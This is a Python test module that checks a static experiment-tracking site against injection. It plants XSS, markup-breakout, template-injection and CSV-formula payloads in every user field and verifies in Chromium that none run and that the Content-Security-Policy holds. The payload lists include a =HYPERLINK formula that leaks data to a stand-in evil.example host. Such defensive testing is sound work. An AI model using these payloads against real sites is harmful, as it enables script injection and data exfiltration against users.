"""Injection, in a real browser: a store whose every user-controlled field is an attack.

The store (built once for the module) puts HTML and script payloads in the site's title
and description, the experiment's name, description and primary metric, run names,
param keys and values, tag keys and values, metric names, notes (markdown with raw HTML
and ``javascript:`` links), artifact names and contents (SVG with script and ``onload``,
HTML, markdown, CSV formulas, JSON with ``</script>``), a registered model's name and
descriptor, the commit message that registered it, and fields of ``run.yaml`` that only
a hand edit sets (user, git, source, environment). Every payload, should it ever run,
calls a sink the test watches: ``window.__pwned``, ``alert``, ``document.title`` or a
request for ``/pwned``; many fire without a click (``onerror``, ``onload``,
``ontoggle``, ``autofocus``).

Every page of the built site is loaded in Chromium from ``file://`` and served under
``/repo/``. Each must run no payload, break no rule of its Content-Security-Policy, log
no console error, leave no active element or attribute in the DOM its scripts built,
and show the payloads as text (so the test cannot pass by showing nothing). A last test
plants an inline script in a built page by hand, as an escaping bug would, and checks
that the policy alone stops it. ``tests/site/test_build.py`` checks the same kind of
store statically (parsed HTML, JSON blocks, chart specs).
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import quote, unquote, urlsplit

import pytest
import yaml
from tools.csp import meta_policy, observe, watch
from tools.harness import PageProblems

from runfolio import Store
from runfolio.registry import register_model, set_model_alias
from runfolio.site.build import build_site

if TYPE_CHECKING:
    from playwright.sync_api import Page


def _sink(n: int) -> str:
    """Code that marks payload ``n`` as run: no '/', quote or space, so it fits anywhere."""
    return f"__pwned={n},alert({n})"


# Payloads that fit in keys and model names (no "/", "\\", "..", "@").
IMG = f"<img src=x onerror={_sink(1)}>"
BREAKOUT = f'"><svg onload={_sink(2)}>'
TOGGLE = f"'><details open ontoggle={_sink(3)}>"
FOCUS = f"<input autofocus onfocus={_sink(4)}>"
TEMPLATE = "{{ 7*7 }}"
RAW = "{% raw %}"
KEYS = (IMG, BREAKOUT, TOGGLE, FOCUS, TEMPLATE, RAW)
# Payloads for free text.
SCRIPT = f"<script>{_sink(5)},document.title='PWNED',fetch('/pwned')</script>"
END = f"</script><script>{_sink(6)}</script>"
IFRAME = f'<iframe srcdoc="<script>parent.{_sink(7)}</script>"></iframe>'
JS_URL = f"javascript:{_sink(8)}"
SVG_SCRIPT = f"<svg><script>{_sink(9)}</script></svg>"
MXSS = f"<math><mtext><table><mglyph><style><img src=x onerror={_sink(10)}>"
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1+1)")
VALUES = (SCRIPT, END, IFRAME, JS_URL, SVG_SCRIPT, MXSS)
# Raw HTML that markdown passes through to the sanitizer (it shows the unquoted handlers
# above as text, so these quote theirs).
HTML_ONLY = (
    f'<img src=x onerror="{_sink(21)}">',
    f'<svg onload="{_sink(22)}"></svg>',
    f'<input autofocus onfocus="{_sink(23)}">',
    f'<details open ontoggle="{_sink(24)}">toggled</details>',
    f'<a href="javascript:{_sink(11)}">raw link</a>',
    '<base href="http://evil.example/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{_sink(12)}">',
    f'<form action="javascript:{_sink(13)}"><button autofocus>go</button></form>',
    f'<object data="javascript:{_sink(14)}"></object>',
    '<embed src="http://evil.example/x.swf">',
    "<style>body{background:url(http://evil.example/bg.png)}</style>",
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<img src="http://evil.example/pixel.png" alt="remote pixel">',
    f'<a href="jav&#x09;ascript:{_sink(15)}">entity link</a>',
    f"<p style=\"background:url('javascript:{_sink(16)}')\">styled</p>",
)
NOTES = "\n\n".join(
    [
        f"Notes {SCRIPT}",
        *KEYS,
        *HTML_ONLY,
        f"[click me]({JS_URL})",
        "![remote](http://evil.example/pixel.png)",
        f"```\n{END}\n```",
        "{% for x in range(3) %}{{ x }}{% endfor %}{{ config }}",
        # Last: MXSS's unclosed <style> takes the rest of the notes with it when sanitised.
        *VALUES,
    ]
)
SVG_FILE = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_sink(17)}">'
    f'<script>{_sink(18)}</script><rect width="10" height="10"/></svg>'
)
HTML_FILE = f"<html><body>{SCRIPT}<img src=x onerror={_sink(19)}></body></html>"
CSV_FILE = "a,b\n" + "\n".join(f"{f},{v}" for f, v in zip(FORMULAS, VALUES, strict=False))
JSON_FILE = json.dumps({"k": END, SCRIPT: [IMG]})

SITE_TITLE = f"Runs {BREAKOUT} {TEMPLATE}"
EXPERIMENT = f"{BREAKOUT} {SCRIPT} {RAW}"
RUN_NAMES = (SCRIPT, f"{BREAKOUT}{TEMPLATE}", f"{END}{RAW}", FORMULAS[0])
MODEL = f"{BREAKOUT}{TEMPLATE}"
COMMIT_SUBJECT = f"Register {SCRIPT} {BREAKOUT}"
# Fields only a hand edit of run.yaml sets, on the second run.
HAND_EDITS = {
    "user": BREAKOUT,
    "git": {"branch": SCRIPT, "commit": END, "dirty": False, "remote_url": JS_URL},
    "source": {"entry_point": IMG, "argv": [SCRIPT, TOGGLE]},
    "environment": {"python": SCRIPT, "platform": FOCUS},
}
# The third makes a folder "<script>...<" holding "script>.txt".
ARTIFACT_NAMES = (f"{IMG}.txt", f"{BREAKOUT}.md", f"<script>{_sink(20)}</script>.txt")

EXAMPLE_STORE = Path(__file__).resolve().parents[2] / "example_runs"
_SCHEMES = ("file", "served")
DRAW_TIMEOUT = 10_000
"""Milliseconds a page may take to draw: a limit on waiting, never an assertion on speed."""


@dataclass
class Site:
    """The hostile store's built site and what each of its pages must show as text."""

    root: Path
    run_ids: list[str]
    slug: str
    pages: dict[str, tuple[str, tuple[str, ...]]] = field(default_factory=dict)
    # site-relative URL -> (kind, strings its text must contain)


@pytest.fixture(scope="module")
def hostile_env(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
    """conftest's per-test isolation, for this module's store, plus a config-free git."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("RUNFOLIO_CACHE_DIR", str(tmp_path_factory.mktemp("cache")))
        patch.setenv("RUNFOLIO_CAPTURE_GIT", "0")
        patch.setenv("GIT_CONFIG_GLOBAL", str(tmp_path_factory.mktemp("git") / "config"))
        patch.setenv("GIT_CONFIG_NOSYSTEM", "1")
        patch.delenv("RUNFOLIO_STORE", raising=False)
        patch.delenv("RUNFOLIO_EXPERIMENT", raising=False)
        yield


def _git(repo: Path, *args: str) -> None:
    """Run git in ``repo`` with a fixed identity (the author name is a payload too)."""
    identity = ["-c", f"user.name={TEMPLATE}", "-c", "user.email=a@example.com"]
    subprocess.run(
        ["git", *identity, "-c", "commit.gpgsign=false", *args],
        cwd=repo,
        check=True,
        capture_output=True,
    )


def _log_runs(store: Store) -> list[Path]:
    """Log the hostile runs; return their folders."""
    folders = []
    for index, name in enumerate(RUN_NAMES):
        tags = dict(zip(KEYS, VALUES, strict=True)) | {"formula": FORMULAS[index]}
        with store.start_run(EXPERIMENT, run_name=name, tags=tags, description=NOTES) as run:
            # String params that vary across runs, so the parallel-coordinates chart
            # draws them as axes with payload labels; plus a number for a numeric axis.
            pairs = zip(KEYS, VALUES, strict=True)
            run.log_params({key: f"{value}{index}" for key, value in pairs})
            run.log_params({"=1+2": FORMULAS[index], "lr": 10.0**-index})
            for key in KEYS:
                for step in range(3):
                    run.log_metric(key, index + 1 / (step + 1), step=step)
            if index == 0:
                run.log_text(NOTES, ARTIFACT_NAMES[1])
                run.log_text(f"{END}{SCRIPT}", ARTIFACT_NAMES[0])
                run.log_text("a plain file", ARTIFACT_NAMES[2])
                run.log_text(HTML_FILE, "page.html")
                run.log_text(CSV_FILE, "table.csv")
                run.log_text(JSON_FILE, "data.json")
                run.log_text(SVG_FILE, "plot.svg")
                run.log_model({"weights": [1, 2]}, "model", description=SCRIPT, framework=IMG)
            folders.append(run.path)
    return folders


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, hostile_env: None) -> Site:
    """The hostile store, committed to git, and its site built from the repository."""
    root = tmp_path_factory.mktemp("hostile")
    (root / "runfolio.yaml").write_text(
        yaml.safe_dump({"title": SITE_TITLE, "description": NOTES}), encoding="utf-8"
    )
    store = Store(root / "runs")
    store.set_experiment(EXPERIMENT, description=NOTES, primary_metric=IMG)
    folders = _log_runs(store)
    version = register_model(store.root, folders[0].name, MODEL)
    set_model_alias(store.root, MODEL, "champion", version.version)
    run_yaml = folders[1] / "run.yaml"
    data = yaml.safe_load(run_yaml.read_text(encoding="utf-8"))
    run_yaml.write_text(yaml.safe_dump({**data, **HAND_EDITS}), encoding="utf-8")
    _git(root, "init", "--quiet", "--initial-branch=main")
    _git(root, "add", "--all")
    _git(root, "commit", "--quiet", "--message", COMMIT_SUBJECT)

    output = root / "site"
    report = build_site(store.root, output, config_root=root)
    assert report.problems == []
    slug = folders[0].parent.name
    ids = [folder.name for folder in folders]
    built = Site(output, ids, slug)
    experiment = f"experiments/{quote(slug)}/"
    # What each page must show as text. Notes lose their markup to the sanitizer but keep
    # their text: the template syntax, the link texts, and the code block's "</script>".
    notes = (TEMPLATE, RAW, "click me", "raw link", END)
    everywhere = (SITE_TITLE,)
    built.pages["index.html"] = ("home", (*everywhere, *notes, EXPERIMENT, *RUN_NAMES))
    built.pages[experiment + "index.html"] = (
        "experiment",
        (*everywhere, *notes, EXPERIMENT, *RUN_NAMES, *KEYS),
    )
    for index, run_id in enumerate(ids):
        shown = (*everywhere, *notes, RUN_NAMES[index], EXPERIMENT, *KEYS, *VALUES)
        shown += (f"{SCRIPT}{index}", FORMULAS[index])
        if index == 0:
            shown += (*ARTIFACT_NAMES, HTML_FILE, *FORMULAS, MODEL)
        if index == 1:
            hand = HAND_EDITS
            shown += (hand["user"], hand["source"]["entry_point"], f"{SCRIPT} {TOGGLE}")
            shown += (hand["git"]["branch"], JS_URL, hand["environment"]["platform"])
        built.pages[f"{experiment}runs/{quote(run_id)}.html"] = ("run", shown)
    refs = ",".join(f"{quote(slug, safe='')}/{quote(run_id, safe='')}" for run_id in ids)
    built.pages[f"compare.html?runs={quote(refs, safe='')}"] = (
        "compare",
        (*everywhere, EXPERIMENT, *RUN_NAMES, *KEYS, f"{END}1"),
    )
    built.pages["models/index.html"] = ("models", (*everywhere, MODEL, "champion"))
    (model_page,) = output.glob("models/*/index.html")
    built.pages[model_page.relative_to(output).as_posix()] = (
        "model",
        (*everywhere, MODEL, EXPERIMENT, RUN_NAMES[0], SCRIPT, IMG, COMMIT_SUBJECT),
    )
    built.pages["404.html"] = ("404", everywhere)
    return built


# ---------------------------------------------------------------------- the built HTML


def _html_pages(site: Site) -> list[Path]:
    """Every page the hostile site renders."""
    return _pages_under(site.root)


def test_every_page_is_loaded_by_the_browser_tests(site: Site) -> None:
    rendered = {path.relative_to(site.root).as_posix() for path in _html_pages(site)}
    assert {unquote(urlsplit(url).path) for url in site.pages} == rendered


def test_every_page_carries_the_policy_first_and_no_inline_style(site: Site) -> None:
    pages = _html_pages(site)
    assert len(pages) == len(RUN_NAMES) + 6  # home, compare, 404, experiment, 2 models
    for path in pages:
        html = path.read_text(encoding="utf-8")
        head = html.split("<head>", 1)[1].lstrip()
        # Right after the charset: nothing before it escapes the policy.
        assert head.startswith('<meta charset="utf-8">\n<meta http-equiv="Content-Security'), path
        policy = meta_policy(html)
        assert policy is not None
        assert policy["default-src"] == ["'none'"]
        assert policy["script-src"] == ["'self'"]
        assert policy["style-src"] == ["'self'"]
        assert policy["object-src"] == ["'none'"] and policy["base-uri"] == ["'self'"]
        for sources in policy.values():
            assert not {"'unsafe-inline'", "'unsafe-eval'", "*", "http:", "https:"} & set(sources)
        assert " style=" not in html, path


# ---------------------------------------------------------------------- the browser

# Every element or attribute that could run code or load from elsewhere, in the DOM as
# the page's own scripts left it. (Style attributes are not listed: the scripts set
# styles through the CSSOM, which the policy allows; test_every_page_carries_the_policy_
# first_and_no_inline_style checks the markup.) Charts are SVG drawn by Vega.
_ACTIVE_DOM = """() => {
  const found = [];
  const say = (el, what) => found.push('<' + el.tagName.toLowerCase() + '> ' + what);
  const loads = ['src', 'srcset', 'data', 'action', 'formaction', 'poster', 'xlink:href'];
  for (const el of document.querySelectorAll(
      'iframe, frame, object, embed, form:not(.vega-bindings), form.vega-bindings:not(:empty), ' +
      'base, style, template, math, ' +
      'meta[http-equiv="refresh" i], link:not([rel="stylesheet"]), link[href*="//"], ' +
      'svg script, svg foreignObject')) {
    say(el, 'element');
  }
  for (const el of document.querySelectorAll('script:not([src])')) {
    if (el.type !== 'application/json') say(el, 'inline: ' + el.textContent.slice(0, 80));
  }
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      const value = attr.value.replace(/[\\u0000-\\u0020]/g, '').toLowerCase();
      const active = /^(javascript|vbscript|data:text)/.test(value);
      const remote = loads.includes(attr.name) && /^([a-z]+:)?\\/\\//.test(value);
      if (attr.name.startsWith('on') || attr.name === 'srcdoc' || active || remote) {
        say(el, attr.name + '=' + attr.value.slice(0, 80));
      }
    }
  }
  return found;
}"""

# The page's text as a reader sees it, with every <details> opened first.
_VISIBLE_TEXT = """() => {
  document.querySelectorAll('details').forEach((details) => { details.open = true; });
  return document.title + '\\n' + document.body.innerText;
}"""


def _visible_text(page: Page) -> str:
    """Return the page's title and rendered text, closed sections opened."""
    return page.evaluate(_VISIBLE_TEXT)


# The chart boxes of a page: the template's (run, experiment) or compare.js's.
_CHARTS = "div.chart[data-chart], .compare-chart-canvas"
# Each chart box's state: drawn (an SVG with at least one mark), failed, or pending.
_CHART_STATES = (
    f"() => [...document.querySelectorAll({json.dumps(_CHARTS)})].map((box) =>"
    " box.querySelector('svg .role-mark > *') ? 'drawn'"
    " : box.querySelector('.chart-error, .compare-empty') ? 'failed' : 'pending')"
)


def _open(page: Page, url: str, kind: str) -> list[str]:
    """Load a page and wait until its scripts have drawn it; return what went wrong."""
    from playwright.sync_api import TimeoutError as PlaywrightTimeoutError

    page.goto(url)
    try:
        if kind == "experiment":
            page.wait_for_selector("#runs-table tbody tr", timeout=DRAW_TIMEOUT)
        if kind == "compare":
            page.wait_for_selector(
                "#compare[data-charts='done']", state="attached", timeout=DRAW_TIMEOUT
            )
        if kind not in ("experiment", "run", "compare"):
            return []
        charts = page.locator(_CHARTS)
        for index in range(charts.count()):
            # Long pages draw their charts only when scrolled near them.
            charts.nth(index).scroll_into_view_if_needed(timeout=DRAW_TIMEOUT)
        page.wait_for_function(
            f"() => !({_CHART_STATES})().includes('pending')", timeout=DRAW_TIMEOUT
        )
    except PlaywrightTimeoutError as error:
        return [f"the page's scripts did not finish: {error.message.splitlines()[0]}"]
    states = page.evaluate(_CHART_STATES)
    if not states and kind == "run":
        return []  # a run with no metric history has no chart
    return [] if states and set(states) == {"drawn"} else [f"charts not all drawn: {states}"]


def _unexpected_console_errors(problems: PageProblems) -> list[str]:
    """Console errors other than the one the notes ask for: loading the relative image "x".

    The sanitizer keeps ``<img src=x>`` (a relative source is the site's own) and drops
    its ``onerror``; the browser then reports the missing file, which is not an error of
    the site.
    """
    return [
        message
        for message in problems.console_errors
        if not (message.startswith("Failed to load resource") and message.endswith("/x:0)"))
    ]


def _check_page(page: Page, url: str, shown: tuple[str, ...]) -> list[str]:
    """Return what went wrong on the loaded page (empty when nothing did)."""
    found = observe(page)
    wrong = []
    if found.pwned is not None or found.title == "PWNED":
        wrong.append(f"a payload ran: __pwned={found.pwned}, title={found.title!r}")
    if found.violations:
        wrong.append(f"policy violations: {found.violations}")
    if len(page.frames) != 1:
        wrong.append(f"{len(page.frames) - 1} injected frames")
    wrong += [f"active DOM: {item}" for item in page.evaluate(_ACTIVE_DOM)]
    text = _visible_text(page)
    wrong += [f"not shown as text: {string!r}" for string in shown if string not in text]
    return [f"{url}: {line}" for line in wrong]


@pytest.mark.allow_page_problems
@pytest.mark.parametrize("scheme", _SCHEMES)
def test_no_payload_runs_on_any_page(
    page: Page,
    page_problems: PageProblems,
    serve_dir: Callable[..., str],
    site: Site,
    scheme: str,
) -> None:
    base = site.root.as_uri() + "/" if scheme == "file" else serve_dir(site.root)
    seen = watch(page)
    wrong: list[str] = []
    for url, (kind, shown) in site.pages.items():
        wrong += [f"{url}: {problem}" for problem in _open(page, base + url, kind)]
        wrong += _check_page(page, url, shown)
    page.evaluate("() => 0")  # deliver the console events sent before this round trip
    wrong += [f"dialog: {dialog}" for dialog in seen.dialogs]
    wrong += [f"request for the sink: {url}" for url in seen.sink_requests]
    wrong += [f"console error: {m}" for m in _unexpected_console_errors(page_problems)]
    wrong += [f"page error: {error}" for error in page_problems.page_errors]
    wrong += [f"request off the machine: {url}" for url in page_problems.outside_requests]
    assert wrong == [], "\n".join(wrong)


@pytest.mark.allow_page_problems
def test_chart_tooltips_show_payloads_as_text(
    page: Page, page_problems: PageProblems, site: Site
) -> None:
    seen = watch(page)
    (url,) = [url for url, (kind, _) in site.pages.items() if kind == "compare"]
    assert _open(page, site.root.as_uri() + "/" + url, "compare") == []
    point = page.locator(".compare-chart-canvas svg .mark-symbol path").first
    point.hover()
    tooltip = page.locator("#vg-tooltip-element.visible")
    tooltip.wait_for()
    # vega-tooltip writes its table with innerHTML after escaping "<" and "&" itself.
    assert tooltip.locator("img, svg, script, iframe").count() == 0
    assert RUN_NAMES[0] in tooltip.inner_text()
    assert observe(page).pwned is None and seen.dialogs == []
    assert _unexpected_console_errors(page_problems) == []


def test_every_example_page_keeps_to_its_policy(
    page: Page, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """The example store's whole site from file://: charts drawn, nothing refused.

    Only ``securitypolicyviolation`` events show an ``eval`` the policy refused (Chromium
    logs no console message for it); the page fixture fails the test on console errors.
    """
    output = tmp_path_factory.mktemp("example") / "site"
    assert build_site(EXAMPLE_STORE, output).problems == []
    pages = [path.relative_to(output).as_posix() for path in _pages_under(output)]
    first_runs = sorted(output.glob("experiments/*/runs/*.js"))[:2]
    refs = ",".join(f"{path.parent.parent.name}/{path.stem}" for path in first_runs)
    pages.append(f"compare.html?runs={quote(refs, safe='')}")
    watch(page)
    wrong = []
    for url in pages:
        kind = "compare" if url.startswith("compare.html?") else _kind(url)
        wrong += [f"{url}: {problem}" for problem in _open(page, output.as_uri() + "/" + url, kind)]
        if found := observe(page).violations:
            wrong.append(f"{url}: policy violations: {found}")
    assert len(pages) > 40
    assert wrong == [], "\n".join(wrong)


def _pages_under(site: Path) -> list[Path]:
    """Every page a site renders (copied artifacts are files, not pages)."""
    return [
        path
        for path in sorted(site.rglob("*.html"))
        if "artifacts" not in path.relative_to(site).parts
    ]


def _kind(url: str) -> str:
    """The page kind of a site-relative page path, as _open knows them."""
    if url.startswith("experiments/"):
        return "run" if "/runs/" in url else "experiment"
    return "other"


# ---------------------------------------------------------------------- the downloads


def _is_number(text: str) -> bool:
    """Tell whether a CSV cell is a plain number (which a spreadsheet evaluates to itself)."""
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_runs_csv_neutralises_every_formula_cell(site: Site) -> None:
    text = (site.root / "experiments" / site.slug / "runs.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 1 + len(RUN_NAMES)
    cells = [cell for row in rows for cell in row]
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert [c for c in cells if c.startswith(starts) and not _is_number(c)] == []
    for formula in FORMULAS:
        # Each run has one as a tag and as a param value; the first is a run name too.
        assert cells.count("'" + formula) == (3 if formula == RUN_NAMES[3] else 2), formula


def test_runs_json_round_trips_the_payloads(site: Site) -> None:
    raw = (site.root / "experiments" / site.slug / "runs.json").read_text(encoding="utf-8")
    table = json.loads(raw)
    rows = [dict(zip(table["columns"], row, strict=True)) for row in table["data"]]
    assert {row["name"] for row in rows} == set(RUN_NAMES)
    for row in rows:
        index = RUN_NAMES.index(row["name"])
        for key, value in zip(KEYS, VALUES, strict=True):
            assert row[f"params.{key}"] == f"{value}{index}"
            assert row[f"tags.{key}"] == value
        assert row["params.=1+2"] == FORMULAS[index]


# ---------------------------------------------------------------------- the second line


@pytest.mark.allow_page_problems
@pytest.mark.parametrize("scheme", _SCHEMES)
def test_the_policy_alone_stops_markup_that_escaped(
    page: Page,
    page_problems: PageProblems,
    serve_dir: Callable[..., str],
    site: Site,
    scheme: str,
) -> None:
    """An escaping bug, simulated: live script and a handler pasted into a built page.

    The same page without its policy runs them, which shows the sinks are live and that
    the policy is what stops them.
    """
    source = site.root / "experiments" / site.slug / "runs" / f"{site.run_ids[0]}.html"
    html = source.read_text(encoding="utf-8")
    planted = (
        f"<script>{_sink(90)}</script>"
        f'<img src="data:," onerror="{_sink(91)}">'
        '<script src="http://evil.example/x.js"></script>'
    )
    policy = re.search(r'<meta http-equiv="Content-Security-Policy"[^>]*>\n', html)
    assert policy and "<main" in html
    escaped = source.with_name("escaped.html")
    bare = source.with_name("escaped-without-policy.html")
    escaped.write_text(html.replace("<main", planted + "<main", 1), encoding="utf-8")
    bare.write_text(escaped.read_text(encoding="utf-8").replace(policy.group(0), ""), "utf-8")
    base = site.root.as_uri() + "/" if scheme == "file" else serve_dir(site.root)
    seen = watch(page)
    try:
        page.goto(base + bare.relative_to(site.root).as_posix())
        page.wait_for_function("() => window.__pwned === 91")
        assert seen.dialogs == ["alert: 90", "alert: 91"]
        seen.dialogs.clear()

        page.goto(base + escaped.relative_to(site.root).as_posix())
        page.wait_for_selector("[data-chart] svg")
        found = observe(page)
    finally:
        escaped.unlink()
        bare.unlink()
    assert found.pwned is None and seen.dialogs == []
    refused = sorted({v["directive"] for v in found.violations})
    assert refused == ["script-src-attr", "script-src-elem"], found.violations
    assert [v["blocked"] for v in found.violations if v["blocked"].startswith("http")] == [
        "http://evil.example/x.js"
    ]
    # Chromium reports each refusal on the console; the page itself threw nothing.
    assert page_problems.page_errors == []
    assert any("Content Security Policy" in m for m in page_problems.console_errors)
